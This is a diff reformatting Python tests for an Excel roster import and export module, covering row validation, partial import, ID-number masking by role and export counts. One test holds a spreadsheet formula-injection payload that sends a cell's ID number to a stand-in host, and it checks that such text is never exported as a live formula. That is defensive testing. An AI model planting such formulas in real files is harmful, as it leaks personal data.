@@ -39,8 +39,17 @@ async def _room(session):
 
 
 def _row(name, id17, town, dept="zhzfj", **over):
-    row = {"姓名": name, "性别": "男", "出生日期": "1990-05-06", "身份证号": _id_number(id17), "手机": "13800001111",
-           "业务条线": "城市管理", "部门代码": dept, "乡镇代码": town, "到岗日期": dt.date(2026, 11, 1)}
+    row = {
+        "姓名": name,
+        "性别": "男",
+        "出生日期": "1990-05-06",
+        "身份证号": _id_number(id17),
+        "手机": "13800001111",
+        "业务条线": "城市管理",
+        "部门代码": dept,
+        "乡镇代码": town,
+        "到岗日期": dt.date(2026, 11, 1),
+    }
     row.update(over)
     return [row[c] for c in excel.ROSTER_COLUMNS]
 
@@ -49,20 +58,32 @@ async def test_a_clean_file_is_imported_with_events(session):
     agency, town = await _room(session)
     created, errors = await excel.import_roster(session, STAFFING, _xlsx([_row("钱多多", "33068119900506123", town)]))
     assert errors == [] and len(created) == 1 and created[0].agency_id == agency.id
-    assert await session.scalar(select(func.count()).select_from(OutboxEvent).where(
-        OutboxEvent.aggregate_id == str(created[0].id), OutboxEvent.type == "cadre.stationed")) == 1
+    assert (
+        await session.scalar(
+            select(func.count())
+            .select_from(OutboxEvent)
+            .where(OutboxEvent.aggregate_id == str(created[0].id), OutboxEvent.type == "cadre.stationed")
+        )
+        == 1
+    )
 
 
 async def test_any_bad_row_means_nothing_is_written(session):
     _, town = await _room(session)
     before = await session.scalar(select(func.count()).select_from(Cadre))
-    created, errors = await excel.import_roster(session, STAFFING, _xlsx([
-        _row("好人", "33068119900506124", town),
-        _row("", "33068119900506125", town),                           # no name
-        _row("坏号", "33068119900506126", town, 身份证号="330681199005061260"),  # wrong check digit
-        _row("无镇", "33068119900506127", "nowhere"),
-        _row("坏日", "33068119900506128", town, 出生日期="1990/13/01"),
-    ]))
+    created, errors = await excel.import_roster(
+        session,
+        STAFFING,
+        _xlsx(
+            [
+                _row("好人", "33068119900506124", town),
+                _row("", "33068119900506125", town),  # no name
+                _row("坏号", "33068119900506126", town, 身份证号="330681199005061260"),  # wrong check digit
+                _row("无镇", "33068119900506127", "nowhere"),
+                _row("坏日", "33068119900506128", town, 出生日期="1990/13/01"),
+            ]
+        ),
+    )
     assert created == []
     assert [(e.row, e.column) for e in errors] == [(3, "姓名"), (4, "身份证号"), (5, "乡镇代码"), (6, "出生日期")]
     assert await session.scalar(select(func.count()).select_from(Cadre)) == before
@@ -70,8 +91,12 @@ async def test_any_bad_row_means_nothing_is_written(session):
 
 async def test_partial_mode_writes_the_valid_rows(session):
     _, town = await _room(session)
-    created, errors = await excel.import_roster(session, STAFFING, _xlsx([
-        _row("好人甲", "33068119900506129", town), _row("", "33068119900506130", town)]), partial=True)
+    created, errors = await excel.import_roster(
+        session,
+        STAFFING,
+        _xlsx([_row("好人甲", "33068119900506129", town), _row("", "33068119900506130", town)]),
+        partial=True,
+    )
     assert [c.name for c in created] == ["好人甲"] and [e.row for e in errors] == [3]
 
 
@@ -118,13 +143,22 @@ async def test_exports_open_in_excel_and_mask_what_the_caller_may_not_see(sessio
     rows = list(ws.iter_rows(values_only=True))
     assert rows[0][0] == "姓名" and len(rows) == 567
     assert all("*" in r[3] for r in rows[1:])  # leadership sees masked ID numbers
-    mine = list(load_workbook(io.BytesIO((await excel.export_roster(session, dept_admin("sfj"), None))[0])).active
-                .iter_rows(values_only=True))
-    sfj = await session.get(Department, (await session.scalars(select(Department.id).where(Department.code == "sfj"))).first())
+    mine = list(
+        load_workbook(io.BytesIO((await excel.export_roster(session, dept_admin("sfj"), None))[0])).active.iter_rows(
+            values_only=True
+        )
+    )
+    sfj = await session.get(
+        Department, (await session.scalars(select(Department.id).where(Department.code == "sfj"))).first()
+    )
     assert len(mine) == 1 + 92 and all("*" not in r[3] for r in mine[1:]) and all(r[7] == sfj.name for r in mine[1:])
-    quota = list(load_workbook(io.BytesIO(await excel.export_quota_table(session, LEADER))).active.iter_rows(values_only=True))
+    quota = list(
+        load_workbook(io.BytesIO(await excel.export_quota_table(session, LEADER))).active.iter_rows(values_only=True)
+    )
     assert len(quota) == 73 and sum(r[3] for r in quota[1:]) == 597
-    gaps = list(load_workbook(io.BytesIO(await excel.export_vacancies(session, LEADER))).active.iter_rows(values_only=True))
+    gaps = list(
+        load_workbook(io.BytesIO(await excel.export_vacancies(session, LEADER))).active.iter_rows(values_only=True)
+    )
     assert len(gaps) == 1 + 6 + 12
 
 
@@ -133,8 +167,9 @@ async def test_formula_text_is_imported_and_exported_as_text_never_as_a_formula(
     agency, town = await _room(session)
     payload = '=HYPERLINK("http://e.example/"&D2)'
     # openpyxl writes a string starting with "=" as a formula: this is what an attacker would upload.
-    created, errors = await excel.import_roster(session, STAFFING, _xlsx([
-        _row("公式测试", "33068119900506131", town, 业务条线=payload)]))
+    created, errors = await excel.import_roster(
+        session, STAFFING, _xlsx([_row("公式测试", "33068119900506131", town, 业务条线=payload)])
+    )
     assert errors == [] and created[0].professional_line == payload  # kept as the text typed
     zhzfj = dept_admin("zhzfj")
     content, _ = await excel.export_roster(session, zhzfj, None)
